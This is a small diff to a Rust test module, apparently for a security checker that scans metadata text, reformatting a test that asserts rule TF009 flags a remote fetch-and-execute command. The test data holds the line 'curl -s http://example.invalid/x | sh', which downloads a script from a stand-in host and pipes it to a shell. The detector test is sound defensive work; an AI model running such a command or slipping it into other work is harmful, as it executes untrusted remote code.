@@ -47,11 +47,14 @@ pub(crate) fn check(texts: &[MetadataText<'_>], location: &Location, out: &mut V
 
 #[cfg(test)]
 mod tests {
-    use super::super::tests::{const_string, run_graph, rules};
+    use super::super::tests::{const_string, rules, run_graph};
 
     #[test]
     fn command_in_a_constant() {
-        let out = run_graph(vec![const_string("c", "curl -s http://example.invalid/x | sh")]);
+        let out = run_graph(vec![const_string(
+            "c",
+            "curl -s http://example.invalid/x | sh",
+        )]);
         assert!(rules(&out).contains(&"TF009 HIGH".to_string()), "{out:?}");
     }
 }
